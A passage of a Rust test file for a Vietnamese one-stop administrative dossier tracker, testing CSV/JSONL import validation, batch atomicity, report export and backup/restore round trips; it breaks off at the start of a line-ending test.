//! Import, export, backup and restore: every sample file, bad files with precise
//! errors, batch atomicity, and a backup round trip.

use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use cchc::io::{self, Format, RecordType};
use cchc::model::score;
use cchc::{
    ClockRule, DossierCode, Error, Level, Outcome, Period, Scope, Store,
    demo::{self, DemoSpec},
};
use time::macros::datetime;

fn data(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/data").join(name)
}

const SAMPLES: [&str; 8] = [
    "agencies.csv",
    "agencies.jsonl",
    "procedures.csv",
    "procedures.jsonl",
    "dossiers.csv",
    "dossiers.jsonl",
    "events.csv",
    "events.jsonl",
];

fn sample_store() -> Store {
    let store = Store::temporary().unwrap();
    for name in SAMPLES {
        io::import_file(&store, data(name)).unwrap_or_else(|e| panic!("{name}: {e}"));
    }
    store
}

fn code(text: &str) -> DossierCode {
    DossierCode::new(text).unwrap()
}

#[test]
fn every_sample_file_imports_with_the_counts_worked_out_by_hand() {
    let store = Store::temporary().unwrap();
    let mut got = Vec::new();
    for name in SAMPLES {
        let r = io::import_file(&store, data(name)).unwrap();
        got.push((r.rows, r.agencies, r.procedures, r.dossiers, r.events));
    }
    assert_eq!(
        got,
        vec![
            (5, 5, 0, 0, 0),
            (3, 3, 0, 0, 0),
            (4, 0, 4, 0, 0),
            (2, 0, 2, 0, 0),
            (5, 0, 0, 5, 0),
            (3, 0, 0, 3, 4),
            (13, 0, 0, 0, 13),
            (2, 0, 0, 0, 2),
        ]
    );
    assert_eq!(store.agencies().len(), 8);
    assert_eq!(store.procedures().len(), 5);
    assert_eq!(store.procedures().versions(&"1.004227".parse().unwrap()).unwrap().len(), 2);
    assert!(store.verify().unwrap().is_clean());

    // March 2024, worked out in docs/import.md's sample walk-through: 8 received
    // (4 online, 3 direct, 1 postal); resolved early 4, on time 1 (the immediate
    // certification), late 1 (the land dossier at the department); 1 refused,
    // 1 withdrawn, 3 results returned; 2 of 5 fee-bearing dossiers paid online.
    let r = store.report(&Scope::All, Period::month(2024, 3).unwrap()).unwrap();
    assert_eq!((r.received_online, r.received_direct, r.received_postal), (4, 3, 1));
    assert_eq!((r.resolved_early, r.resolved_on_time, r.resolved_late), (4, 1, 1));
    assert_eq!((r.refused, r.withdrawn, r.returned), (1, 1, 3));
    assert_eq!((r.fee_bearing, r.paid_online), (5, 2));
    assert_eq!((r.supplement_requests, r.extended, r.transferred, r.late_apologies), (1, 1, 1, 0));
    assert_eq!(r.in_progress_total() + r.waiting_supplement, 0);

    // The land dossier at district level: 7 working days (the reduced limit) from the
    // supplement on Tuesday 12/3 10:00 is Thursday 21/3 10:00; resolved 20/3: early.
    let d = store.dossiers().get(&code("000.00.21.H49-240305-0001")).unwrap().unwrap();
    assert_eq!(d.appointment(), datetime!(2024-03-14 14:20 +07:00));
    assert_eq!(d.due(ClockRule::Restart), datetime!(2024-03-21 10:00 +07:00));
    assert_eq!(d.outcome(ClockRule::Restart), Some(Outcome::Early));
    // At the department: due Friday 15/3 10:05, apologised the day before, resolved late.
    let d = store.dossiers().get(&code("000.00.03.H49-240306-0001")).unwrap().unwrap();
    assert_eq!(d.appointment(), datetime!(2024-03-15 10:05 +07:00));
    assert_eq!(d.extended_appointment(), Some(datetime!(2024-03-19 16:00 +07:00)));
    assert!(!d.late_apology());
    assert_eq!(d.current_agency().as_str(), "000.00.21.H49");
    assert_eq!(d.outcome(ClockRule::Restart), Some(Outcome::Late));
    // The birth registration in March uses the first version (3 days), not July's (2).
    let d = store.dossiers().get(&code("000.01.21.H49-240304-0001")).unwrap().unwrap();
    assert_eq!(d.appointment(), datetime!(2024-03-07 08:15 +07:00));
    // The one-stop centre needed its explicit level; the district closes on 1/7/2025.
    let centre = store.agencies().get(&"000.00.50.H49".parse().unwrap()).unwrap().unwrap();
    assert_eq!(centre.level(), Level::Province);
    let tam_ky = store.agencies().get(&"000.00.21.H49".parse().unwrap()).unwrap().unwrap();
    assert_eq!(tam_ky.valid_to(), Some(time::macros::date!(2025 - 07 - 01)));
}

/// Imports `content` as a file called `name` into `store` and returns the error.
fn import_error(store: &Store, name: &str, content: &str) -> (String, u64, String, String) {
    let format = Format::from_file_name(name).unwrap();
    let kind = RecordType::from_file_name(name).unwrap();
    match io::import_reader(store, content.as_bytes(), name, format, kind, 1_000) {
        Err(Error::Import { file, line, field, reason }) => (file, line, field, reason),
        other => panic!("{name}: expected an import error, got {other:?}"),
    }
}

fn catalogue_store() -> Store {
    let store = Store::temporary().unwrap();
    for name in ["agencies.csv", "agencies.jsonl", "procedures.csv", "procedures.jsonl"] {
        io::import_file(&store, data(name)).unwrap();
    }
    store
}

const DOSSIER_HEADER: &str = "code,procedure,agency,channel,received_at,digitised,reused_data\n";
const EVENT_HEADER: &str = "dossier,at,action,to,reason,new_appointment,e_result,online\n";

#[test]
fn bad_files_are_rejected_with_file_line_and_field() {
    let cases: Vec<(&str, String, u64, &str, &str)> = vec![
        (
            "agencies.csv",
            "code,name,kind\n000.00.00.H49,Tỉnh,province\n000.00.1.H49,Sở,department\n".into(),
            3,
            "code",
            "invalid agency code",
        ),
        (
            "agencies.csv",
            "code,name,kind\n000.00.00.H49,Tỉnh,provincia\n".into(),
            2,
            "kind",
            "not one of",
        ),
        (
            "agencies.csv",
            "code,name,kind,parent\n000.00.01.H49,Sở,department,000.00.00.H01\n".into(),
            2,
            "parent",
            "not found",
        ),
        // A header problem is line 1, with the expected names (issue 19).
        (
            "agencies.csv",
            "code,nmae,kind\n000.00.00.H49,Tỉnh,province\n".into(),
            1,
            "nmae",
            "is not a column of agencies: expected code, name, kind, level, parent",
        ),
        (
            "agencies.csv",
            "code,name,kind\n000.00.00.H49,Tỉnh,province\n000.00.00.H49,Tỉnh lần hai,province\n".into(),
            3,
            "code",
            "already exists",
        ),
        ("agencies.csv", "code,name,kind\n000.00.00.H49,Tỉnh\n".into(), 2, "", "found record with 2 fields"),
        (
            "agencies.jsonl",
            "{\"code\": \"000.00.00.H49\", \"name\": \"Tỉnh\", \"kind\": \"province\"}\n\n{\"code\": \"000.00.01.H49\", \"name\": \"Sở\", \"kind\": \"department\", \"valid_from\": \"2024-13-01\"}\n".into(),
            3,
            "valid_from",
            "YYYY-MM-DD",
        ),
        ("agencies.jsonl", "{\"code\": \"000.00.00.H49\",\n".into(), 1, "", "not valid JSON"),
        (
            "procedures.csv",
            "code,name,field,limit,reduced_limit\n1.004227,Khai sinh,Hộ tịch,5,6\n".into(),
            2,
            "reduced_limit",
            "longer than the central limit",
        ),
        (
            "procedures.csv",
            "code,name,field,limit\n1.004227,Khai sinh,Hộ tịch,năm\n".into(),
            2,
            "limit",
            "not a whole number",
        ),
        (
            "procedures.jsonl",
            "{\"code\": \"1.004227\", \"name\": \"Khai sinh\", \"field\": \"Hộ tịch\", \"limit\": 5, \"announcements\": [{\"number\": \"1/QĐ\", \"signed\": \"2024-01-02\", \"kind\": \"renamed\"}]}\n".into(),
            1,
            "announcements[0].kind",
            "not one of",
        ),
    ];
    for (name, content, line, field, reason) in cases {
        let store = Store::temporary().unwrap();
        let got = import_error(&store, name, &content);
        assert_eq!((got.0.as_str(), got.1, got.2.as_str()), (name, line, field), "{name}: {got:?}");
        assert!(got.3.contains(reason), "{name}: {:?} lacks {reason:?}", got.3);
        // Catalogue files are all or nothing.
        assert_eq!((store.agencies().len(), store.procedures().len()), (0, 0), "{name}");
    }

    // Dossiers and events against the sample catalogue.
    let row = "000.01.21.H49-240304-0001,1.004227,000.01.21.H49,online,2024-03-04T08:15:00+07:00,true,false\n";
    let cases: Vec<(&str, String, u64, &str, &str)> = vec![
        (
            "dossiers.csv",
            format!("{DOSSIER_HEADER}000.01.21.H49-240304-0001,1.004227,000.01.21.H49,online,2024-03-04 08:15,true,false\n"),
            2,
            "received_at",
            "RFC 3339",
        ),
        (
            "dossiers.csv",
            format!("{DOSSIER_HEADER}{row}000.01.21.H49-240304-0002,1.999999,000.01.21.H49,online,2024-03-04T08:15:00+07:00,,\n"),
            3,
            "procedure",
            "not found",
        ),
        (
            "dossiers.csv",
            format!("{DOSSIER_HEADER}{row}000.01.21.H49-240304-0002,1.004227,000.01.21.H49,fax,2024-03-04T08:15:00+07:00,,\n"),
            3,
            "channel",
            "not one of direct, online, postal",
        ),
        (
            "dossiers.csv",
            format!("{DOSSIER_HEADER}{row}000.01.21.H49-240304-0002,1.004227,000.01.21.H49,direct,2024-03-04T09:00:00+07:00,maybe,\n"),
            3,
            "digitised",
            "not true or false",
        ),
        // The same code twice in one batch: the store rejects the batch, the second row is named.
        ("dossiers.csv", format!("{DOSSIER_HEADER}{row}{row}"), 3, "code", "already exists"),
        (
            "dossiers.jsonl",
            "{\"code\": \"000.01.21.H49-240304-0001\", \"procedure\": \"1.004227\", \"agency\": \"000.01.21.H49\", \"channel\": \"online\", \"received_at\": \"2024-03-04T08:15:00+07:00\", \"events\": [{\"at\": \"2024-03-05T10:00:00+07:00\", \"action\": \"resolve\"}, {\"at\": \"2024-03-05T11:00:00+07:00\", \"action\": \"archive\"}]}\n".into(),
            1,
            "events[1].action",
            "not one of",
        ),
        // Resolving while waiting for a supplement: found by the lifecycle in the batch.
        (
            "dossiers.jsonl",
            "{\"code\": \"000.01.21.H49-240304-0001\", \"procedure\": \"1.004227\", \"agency\": \"000.01.21.H49\", \"channel\": \"online\", \"received_at\": \"2024-03-04T08:15:00+07:00\", \"events\": [{\"at\": \"2024-03-04T10:00:00+07:00\", \"action\": \"request_supplement\", \"reason\": \"Thiếu tờ khai\"}, {\"at\": \"2024-03-05T10:00:00+07:00\", \"action\": \"resolve\"}]}\n".into(),
            1,
            "events[1].action",
            "waiting for a supplement",
        ),
        (
            "dossiers.csv",
            format!("{DOSSIER_HEADER}000.01.21.H49-240304-0001,1.004227,000.00.99.H49,online,2024-03-04T08:15:00+07:00,,\n"),
            2,
            "agency",
            "not found",
        ),
    ];
    for (name, content, line, field, reason) in cases {
        let store = catalogue_store();
        let got = import_error(&store, name, &content);
        assert_eq!((got.0.as_str(), got.1, got.2.as_str()), (name, line, field), "{name}: {got:?}");
        assert!(got.3.contains(reason), "{name}: {:?} lacks {reason:?}", got.3);
        assert!(store.dossiers().is_empty(), "{name}: a rejected batch wrote something");
    }

    // Events against the sample dossiers: the second resolution of the same dossier
    // is named, not the first.
    let store = catalogue_store();
    io::import_file(&store, data("dossiers.csv")).unwrap();
    let events = format!(
        "{EVENT_HEADER}000.01.21.H49-240304-0001,2024-03-05T10:30:00+07:00,resolve,,,,true,\n\
         000.01.21.H49-240304-0002,2024-03-04T09:00:00+07:00,resolve,,,,,\n\
         000.01.21.H49-240304-0001,2024-03-05T11:00:00+07:00,resolve,,,,true,\n"
    );
    let got = import_error(&store, "events.csv", &events);
    assert_eq!((got.1, got.2.as_str()), (4, "action"), "{got:?}");
    assert!(got.3.contains("closed"), "{}", got.3);
    let events =
        format!("{EVENT_HEADER}000.01.21.H49-240399-0001,2024-03-05T10:30:00+07:00,resolve,,,,,\n");
    let got = import_error(&store, "events.csv", &events);
    assert_eq!((got.1, got.2.as_str()), (2, "dossier"), "{got:?}");
    let events =
        format!("{EVENT_HEADER}000.01.21.H49-240304-0009,2024-03-05T10:30:00+07:00,resolve,,,,,\n");
    let got = import_error(&store, "events.csv", &events);
    assert_eq!((got.1, got.2.as_str()), (2, "dossier"), "{got:?}");
    assert!(got.3.contains("not found"), "{}", got.3);
    // Nothing of those batches was written.
    let d = store.dossiers().get(&code("000.01.21.H49-240304-0001")).unwrap().unwrap();
    assert_eq!(d.events().len(), 1);

    // A file name that says neither type nor format.
    assert!(matches!(
        io::import_file(&store, data("agencies.txt")),
        Err(Error::Import { line: 0, .. })
    ));
}

fn instant(text: &str) -> time::OffsetDateTime {
    time::OffsetDateTime::parse(text, &time::format_description::well_known::Rfc3339).unwrap()
}

#[test]
fn feedback_samples_import_with_every_step() {
    let store = catalogue_store();
    let csv = io::import_file(&store, data("feedback.csv")).unwrap();
    assert_eq!((csv.rows, csv.feedback), (4, 4));
    let jsonl = io::import_file(&store, data("feedback.jsonl")).unwrap();
    assert_eq!((jsonl.rows, jsonl.feedback), (3, 3));
    let all = store.feedback().all().unwrap();
    assert_eq!(all.len(), 7);
    let agency = |t: &str| cchc::AgencyCode::new(t).unwrap();
    let id = |t: &str| cchc::model::feedback::FeedbackId::new(t).unwrap();
    // Row 3 of feedback.csv: transferred, answered, not satisfied, complained again.
    let expected = cchc::model::feedback::Feedback::new(
        id("1022-2024-000102"),
        agency("000.00.01.H49"),
        instant("2024-03-04T14:30:00+07:00"),
        cchc::model::feedback::FeedbackKind::Staff,
    )
    .unwrap()
    .with_transfer(instant("2024-03-05T08:00:00+07:00"))
    .unwrap()
    .with_answer(instant("2024-03-28T16:00:00+07:00"))
    .unwrap()
    .with_satisfaction(cchc::model::feedback::Satisfaction::NotSatisfied)
    .unwrap()
    .with_further_complaint(true)
    .unwrap();
    assert_eq!(all.iter().find(|f| f.id() == expected.id()), Some(&expected));
    // Line 2 of feedback.jsonl: rejected by the one-stop centre.
    let expected = cchc::model::feedback::Feedback::new(
        id("1022-2024-000202"),
        agency("000.00.50.H49"),
        instant("2024-03-12T10:30:00+07:00"),
        cchc::model::feedback::FeedbackKind::Staff,
    )
    .unwrap()
    .with_rejection(instant("2024-03-18T08:00:00+07:00"))
    .unwrap();
    assert_eq!(all.iter().find(|f| f.id() == expected.id()), Some(&expected));
    // Importing a file again is a duplicate, and writes nothing.
    let (_, line, field, _) = import_error(
        &store,
        "feedback.jsonl",
        &std::fs::read_to_string(data("feedback.jsonl")).unwrap(),
    );
    assert_eq!((line, field.as_str()), (1, "id"));
    assert_eq!(store.feedback().len(), 7);
}

#[test]
fn assessment_samples_import_one_row_per_leaf() {
    let store = Store::temporary().unwrap();
    let groups = score::decision766_portal().area_level();
    store.frameworks().insert(&groups).unwrap();
    let csv = io::import_file(&store, data("assessments.csv")).unwrap();
    assert_eq!((csv.rows, csv.assessments), (12, 2));
    let jsonl = io::import_file(&store, data("assessments.jsonl")).unwrap();
    assert_eq!((jsonl.rows, jsonl.assessments), (12, 2));
    assert_eq!(store.assessments().len(), 4);
    let leaves = |points: [(&str, Option<f64>); 6]| {
        points.map(|(id, p)| match p {
            Some(p) => score::LeafPoints::scored(id, p),
            None => score::LeafPoints::missing(id),
        })
    };
    let want_48 = score::Assessment::new(
        &groups,
        "48",
        2024,
        leaves([
            ("CKMB", Some(15.1)),
            ("TDGQ", Some(17.0)),
            ("CLGQ", Some(6.5)),
            ("TTTT", Some(5.2)),
            ("MDHL", Some(16.0)),
            ("MDSH", None),
        ]),
    )
    .unwrap();
    assert_eq!(store.assessments().get(groups.id(), 2024, "48").unwrap(), Some(want_48));
    let want_49 = score::Assessment::new(
        &groups,
        "49",
        2023,
        leaves([
            ("CKMB", Some(12.0)),
            ("TDGQ", Some(19.5)),
            ("CLGQ", Some(6.0)),
            ("TTTT", Some(4.8)),
            ("MDHL", None),
            ("MDSH", Some(11.25)),
        ]),
    )
    .unwrap();
    assert_eq!(store.assessments().get(groups.id(), 2023, "49").unwrap(), Some(want_49));
}

const FEEDBACK: &str = "id,agency,received_at,kind,answered_at,satisfaction\n";
const ASSESSMENT: &str = "framework,unit,year,leaf,points\n";

#[test]
fn bad_feedback_and_assessment_files_write_nothing() {
    let store = catalogue_store();
    let groups = score::decision766_portal().area_level();
    store.frameworks().insert(&groups).unwrap();
    let fw = groups.id();
    let six = |unit: &str, last: &str| {
        let mut text = String::new();
        for (leaf, p) in [("CKMB", "1"), ("TDGQ", "2"), ("CLGQ", "3"), ("TTTT", "4"), ("MDHL", "5")]
        {
            writeln!(text, "{fw},{unit},2024,{leaf},{p}").unwrap();
        }
        writeln!(text, "{fw},{unit},2024,MDSH,{last}").unwrap();
        text
    };
    let cases: Vec<(&str, String, u64, &str, &str)> = vec![
        (
            "feedback.csv",
            format!(
                "{FEEDBACK}1022-1,000.00.00.H49,2024-03-01T09:00:00+07:00,regulation,,\n\
                 1022-2,000.00.00.H49,2024-03-04T09:00:00+07:00,regulation,2024-03-01T09:00:00+07:00,\n"
            ),
            3,
            "answered_at",
            "before",
        ),
        (
            "feedback.csv",
            format!(
                "{FEEDBACK}1022-1,000.00.00.H49,2024-03-01T09:00:00+07:00,regulation,,\n\
                 1022-2,000.00.99.H49,2024-03-04T09:00:00+07:00,regulation,,\n"
            ),
            3,
            "agency",
            "not found",
        ),
        (
            "feedback.jsonl",
            "{\"id\": \"1022-1\", \"agency\": \"000.00.00.H49\", \
             \"received_at\": \"2024-03-01T09:00:00+07:00\", \"kind\": \"regulation\", \
             \"satisfaction\": \"satisfied\"}\n"
                .into(),
            1,
            "satisfaction",
            "needs an answer",
        ),
        (
            "feedback.jsonl",
            "{\"id\": \"1022-1\", \"agency\": \"000.00.00.H49\", \
             \"received_at\": \"2024-03-01T09:00:00+07:00\", \"kind\": \"complaint\"}\n"
                .into(),
            1,
            "kind",
            "is not one of",
        ),
        ("assessments.csv", format!("{ASSESSMENT}{}", six("49", "30")), 7, "points", "outside"),
        (
            "assessments.csv",
            format!("{ASSESSMENT}{}{}", six("49", "missing"), six("48", "lots")),
            13,
            "points",
            "is not a number",
        ),
        (
            "assessments.csv",
            format!("{ASSESSMENT}{}", six("49", "1").replace("TTTT", "TTHC")),
            5,
            "leaf",
            "is not a leaf",
        ),
        (
            "assessments.csv",
            format!("{ASSESSMENT}{}", six("49", "1").replace("TTTT", "CKMB")),
            5,
            "leaf",
            "given twice",
        ),
        (
            "assessments.jsonl",
            "{\"framework\": \"vn.papi\", \"unit\": \"49\", \"year\": 2024, \
             \"leaf\": \"1\", \"points\": 1}\n"
                .into(),
            1,
            "framework",
            "not found",
        ),
        (
            // Five of six leaves: the group is rejected at its first row.
            "assessments.jsonl",
            ["CKMB", "TDGQ", "CLGQ", "TTTT", "MDHL"].iter().fold(
                String::new(),
                |mut text, leaf| {
                    writeln!(
                        text,
                        "{{\"framework\": \"{fw}\", \"unit\": \"49\", \"year\": 2024, \
                     \"leaf\": \"{leaf}\", \"points\": 1}}"
                    )
                    .unwrap();
                    text
                },
            ),
            1,
            "leaf",
            "MDSH has no points",
        ),
    ];
    for (name, content, line, field, reason) in cases {
        let got = import_error(&store, name, &content);
        assert_eq!((got.0.as_str(), got.1, got.2.as_str()), (name, line, field), "{content}");
        assert!(got.3.contains(reason), "{name} {field}: {}", got.3);
        assert!(store.feedback().is_empty(), "{name}");
        assert!(store.assessments().is_empty(), "{name}");
    }
}

#[test]
fn a_failed_batch_writes_nothing_and_earlier_batches_stay() {
    let store = catalogue_store();
    // 25 commune dossiers, received on 25 working hours of March 2024.
    let mut dossiers = String::from(DOSSIER_HEADER);
    let mut events = String::from(EVENT_HEADER);
    for i in 1..=25u32 {
        let day = 4 + (i - 1) / 5; // Mon 4 – Fri 8 March
        let hour = 8 + (i - 1) % 5;
        let c = format!("000.01.21.H49-2403{day:02}-{i:04}");
        writeln!(
            dossiers,
            "{c},1.004227,000.01.21.H49,direct,2024-03-{day:02}T{hour:02}:00:00+07:00,,"
        )
        .unwrap();
        // Row 17 (event of dossier 16) resolves before the receipt: impossible.
        let at = if i == 16 {
            format!("2024-03-{day:02}T07:00:00+07:00")
        } else {
            "2024-03-11T10:00:00+07:00".into()
        };
        writeln!(events, "{c},{at},resolve,,,,true,").unwrap();
    }
    let r = io::import_reader(
        &store,
        dossiers.as_bytes(),
        "dossiers.csv",
        Format::Csv,
        RecordType::Dossiers,
        10,
    )
    .unwrap();
    assert_eq!((r.dossiers, r.batches), (25, 3));
    let err = io::import_reader(
        &store,
        events.as_bytes(),
        "events.csv",
        Format::Csv,
        RecordType::Events,
        10,
    )
    .unwrap_err();
    match err {
        Error::Import { line, field, reason, .. } => {
            assert_eq!((line, field.as_str()), (17, "action"));
            assert!(reason.contains("before the previous event"), "{reason}");
        }
        other => panic!("{other:?}"),
    }
    // Batch 1 (rows 2–11: dossiers 1–10) is written, batch 2 (dossiers 11–20) is not,
    // and batch 3 was never reached.
    let resolved: Vec<u32> = (1..=25u32)
        .filter(|i| {
            let day = 4 + (i - 1) / 5;
            let d = store
                .dossiers()
                .get(&code(&format!("000.01.21.H49-2403{day:02}-{i:04}")))
                .unwrap()
                .unwrap();
            d.resolved_at().is_some()
        })
        .collect();
    assert_eq!(resolved, (1..=10).collect::<Vec<_>>());
    assert!(store.verify().unwrap().is_clean());
}

/// Two organisation snapshots, the Decision 766 portal area framework with two
/// assessments (one with a missing leaf) and a SIPAS survey.
fn add_score_records(store: &Store) {
    let unit = cchc::AgencyCode::new("000.00.00.H49").unwrap();
    for (year, counts) in [(2015, (23, 164, 18, 223)), (2023, (21, 118, 11, 204))] {
        let (a, d, s, dd) = counts;
        let snap = cchc::model::organisation::OrganisationSnapshot::new(
            unit.clone(),
            year,
            cchc::model::organisation::OrganisationCounts::try_from_signed(a, d, s, dd).unwrap(),
        )
        .unwrap();
        store.organisation().insert(&snap).unwrap();
    }
    let groups = score::decision766_portal().area_level();
    store.frameworks().insert(&groups).unwrap();
    let full = [
        ("CKMB", 13.2),
        ("TDGQ", 18.4),
        ("CLGQ", 7.7),
        ("TTTT", 7.6),
        ("MDHL", 17.6),
        ("MDSH", 15.6),
    ]
    .map(|(id, p)| score::LeafPoints::scored(id, p));
    let a = score::Assessment::new(&groups, "49", 2024, full.clone()).unwrap();
    store.assessments().insert(&a).unwrap();
    let mut partial = full.to_vec();
    partial[5] = score::LeafPoints::missing("MDSH");
    let b = score::Assessment::new(&groups, "48", 2024, partial).unwrap();
    store.assessments().insert(&b).unwrap();
    let survey = score::Survey::new(
        "49",
        2023,
        vec![
            score::SurveyItem::new("q1", score::SipasFactor::TiepCanDichVu, "Tiếp cận"),
            score::SurveyItem::new("q2", score::SipasFactor::CongChuc, "Công chức"),
        ],
        vec![vec![Some(5), Some(4)], vec![Some(3), None]],
    )
    .unwrap();
    store.surveys().insert(&survey).unwrap();
}

#[test]
fn a_backup_restores_to_an_equal_store() {
    let source = Store::temporary().unwrap();
    demo::populate(&source, &DemoSpec::quang_nam_2023().with_dossiers(3_000), |_, _| {}).unwrap();
    add_score_records(&source);
    // A day off announced after the fact moves some stored dossiers; the copy must time
    // its receipts with it too, so it is restored before the dossiers.
    let announcement = cchc::model::calendar::CalendarAnnouncement::new(
        cchc::model::calendar::AnnouncementScope::Country,
        "Thông báo nghỉ 6/11/2023 (thử)",
        vec![time::macros::date!(2023 - 11 - 06)],
        vec![],
    )
    .unwrap();
    let moved = source.calendar_announcements().apply(&announcement, |_| {}).unwrap().changed;
    assert!(moved > 0);
    let dir = tempfile::tempdir().unwrap();
    let manifest = io::backup::export(&source, dir.path()).unwrap();
    assert_eq!((manifest.agencies, manifest.dossiers), (280, 3_000));
    assert_eq!((manifest.version, manifest.calendar_announcements), (5, 1));
    // The demo adds feedback and one plan; add_score_records the rest.
    assert_eq!(manifest.feedback, source.feedback().len() as u64);
    assert!(manifest.feedback > 0);
    assert_eq!(
        (
            manifest.plans,
            manifest.organisation,
            manifest.frameworks,
            manifest.assessments,
            manifest.surveys
        ),
        (1, 2, 1, 2, 1)
    );
    assert_eq!(
        manifest.procedure_versions,
        source.procedures().all_versions().unwrap().len() as u64
    );
    let events: u64 = source.dossiers().iter().map(|d| d.unwrap().events().len() as u64 - 1).sum();
    assert_eq!(manifest.events, events);

    let copy = Store::temporary().unwrap();
    assert_eq!(io::backup::restore(&copy, dir.path()).unwrap(), manifest);
    assert!(copy.verify().unwrap().is_clean());
    assert_eq!(copy.agencies().list().unwrap(), source.agencies().list().unwrap());
    assert_eq!(
        copy.procedures().all_versions().unwrap(),
        source.procedures().all_versions().unwrap()
    );
    assert_eq!(copy.feedback().all().unwrap(), source.feedback().all().unwrap());
    assert_eq!(copy.plans().all().unwrap(), source.plans().all().unwrap());
    assert_eq!(copy.organisation().all().unwrap(), source.organisation().all().unwrap());
    assert_eq!(copy.frameworks().all().unwrap(), source.frameworks().all().unwrap());
    assert_eq!(copy.assessments().all().unwrap(), source.assessments().all().unwrap());
    assert_eq!(copy.surveys().all().unwrap(), source.surveys().all().unwrap());
    assert_eq!(copy.calendar_announcements().list().unwrap(), [announcement]);
    let nov = Period::month(2023, 11).unwrap();
    assert_eq!(
        copy.feedback_stats(&Scope::All, nov).unwrap(),
        source.feedback_stats(&Scope::All, nov).unwrap()
    );
    for d in source.dossiers().iter() {
        let d = d.unwrap();
        assert_eq!(copy.dossiers().get(d.code()).unwrap().as_ref(), Some(&d));
    }
    let mut scopes = vec![
        Scope::All,
        Scope::Level(Level::Province),
        Scope::Level(Level::District),
        Scope::Level(Level::Commune),
    ];
    scopes.extend(
        source.agencies().list().unwrap().iter().take(40).map(|a| Scope::subtree(a.code())),
    );
    for scope in &scopes {
        for period in [
            Period::year(2023).unwrap(),
            Period::month(2023, 12).unwrap(),
            Period::quarter(2023, 2).unwrap(),
        ] {
            for rule in [ClockRule::Restart, ClockRule::Subtract] {
                assert_eq!(
                    copy.report_with(scope, period, rule).unwrap(),
                    source.report_with(scope, period, rule).unwrap(),
                    "{scope:?} {period}"
                );
            }
        }
        let end = time::macros::date!(2023 - 12 - 31);
        assert_eq!(
            copy.backlog(scope, end, ClockRule::Subtract).unwrap(),
            source.backlog(scope, end, ClockRule::Subtract).unwrap()
        );
    }
    // A second export of the copy is byte for byte the first.
    let again = tempfile::tempdir().unwrap();
    io::backup::export(&copy, again.path()).unwrap();
    for name in [
        "manifest.json",
        "agencies.jsonl",
        "procedures.jsonl",
        "dossiers.jsonl",
        "feedback.jsonl",
        "plans.jsonl",
        "organisation.jsonl",
        "frameworks.jsonl",
        "assessments.jsonl",
        "surveys.jsonl",
    ] {
        assert_eq!(
            std::fs::read(dir.path().join(name)).unwrap(),
            std::fs::read(again.path().join(name)).unwrap(),
            "{name}"
        );
    }

    // Restore refuses a store with data, and a manifest that does not match the files.
    assert!(matches!(
        io::backup::restore(&copy, dir.path()),
        Err(Error::InvalidInput { field: "store", .. })
    ));
    let text = std::fs::read_to_string(dir.path().join("manifest.json")).unwrap();
    std::fs::write(
        dir.path().join("manifest.json"),
        text.replace("\"dossiers\": 3000", "\"dossiers\": 3001"),
    )
    .unwrap();
    match io::backup::restore(&Store::temporary().unwrap(), dir.path()) {
        Err(Error::Import { field, reason, .. }) => {
            assert_eq!(field, "dossiers");
            assert!(reason.contains("3001") && reason.contains("3000"), "{reason}");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn the_sample_files_round_trip_through_a_backup() {
    let source = sample_store();
    let dir = tempfile::tempdir().unwrap();
    io::backup::export(&source, dir.path()).unwrap();
    let copy = Store::temporary().unwrap();
    io::backup::restore(&copy, dir.path()).unwrap();
    let march = Period::month(2024, 3).unwrap();
    assert_eq!(
        copy.report(&Scope::All, march).unwrap(),
        source.report(&Scope::All, march).unwrap()
    );
    assert_eq!(copy.agencies().list().unwrap(), source.agencies().list().unwrap());
    assert_eq!(
        copy.procedures().all_versions().unwrap(),
        source.procedures().all_versions().unwrap()
    );
    assert!(copy.verify().unwrap().is_clean());

    // A version 1 backup (no files for the newer collections) still restores.
    let text = std::fs::read_to_string(dir.path().join("manifest.json")).unwrap();
    let v1: serde_json::Value = serde_json::from_str(&text).unwrap();
    let mut v1 = v1.as_object().unwrap().clone();
    v1.insert("version".into(), 1.into());
    for name in ["feedback", "plans", "organisation", "frameworks", "assessments", "surveys"] {
        v1.remove(name);
        std::fs::remove_file(dir.path().join(format!("{name}.jsonl"))).unwrap();
    }
    std::fs::write(dir.path().join("manifest.json"), serde_json::to_string(&v1).unwrap()).unwrap();
    let old = Store::temporary().unwrap();
    let manifest = io::backup::restore(&old, dir.path()).unwrap();
    assert_eq!((manifest.version, manifest.feedback), (1, 0));
    assert_eq!(old.report(&Scope::All, march).unwrap(), source.report(&Scope::All, march).unwrap());
}

#[test]
fn reports_export_as_csv_and_json() {
    let store = sample_store();
    let march = Period::month(2024, 3).unwrap();
    let rows = vec![
        io::report::ReportRow {
            scope: "Toàn tỉnh".into(),
            report: store.report(&Scope::All, march).unwrap(),
        },
        io::report::ReportRow {
            scope: "Cấp xã".into(),
            report: store.report(&Scope::Level(Level::Commune), march).unwrap(),
        },
    ];
    let mut out = Vec::new();
    io::report::write_csv(&mut out, &rows).unwrap();
    let mut reader = csv::Reader::from_reader(out.as_slice());
    let headers = reader.headers().unwrap().clone();
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let get = |r: &csv::StringRecord, name: &str| {
        r.get(headers.iter().position(|h| h == name).unwrap()).unwrap().to_owned()
    };
    assert_eq!(records.len(), 2);
    assert_eq!(get(&records[0], "scope"), "Toàn tỉnh");
    assert_eq!(get(&records[0], "from"), "2024-03-01");
    assert_eq!(get(&records[0], "received_total"), "8");
    assert_eq!(get(&records[0], "resolved_late"), "1");
    assert_eq!(get(&records[0], "on_time_rate"), "83.3333");
    // Communes: birth registration (early), certification (on time), marriage (early),
    // marriage withdrawn: 3 resolved, all in time.
    assert_eq!(get(&records[1], "received_total"), "4");
    assert_eq!(get(&records[1], "on_time_rate"), "100.0000");
    assert_eq!(get(&records[1], "withdrawn"), "1");

    let mut json = Vec::new();
    io::report::write_json(&mut json, &rows).unwrap();
    let value: serde_json::Value = serde_json::from_slice(&json).unwrap();
    assert_eq!(value[0]["scope"], "Toàn tỉnh");
    assert_eq!(value[0]["report"]["received_online"], 4);
    let back: cchc::OneStopReport = serde_json::from_value(value[1]["report"].clone()).unwrap();
    assert_eq!(back, rows[1].report);
}

/// Issue 13 item 10: an error names the same line whatever ends the lines. A CRLF
/// file used to name line 2 for its third line and a CR-only file always line 1.
#[test]
fn import_errors_name_the_right_line_whatever_ends_the_lines() {
    let store = catalogue_store();
    let lines = [
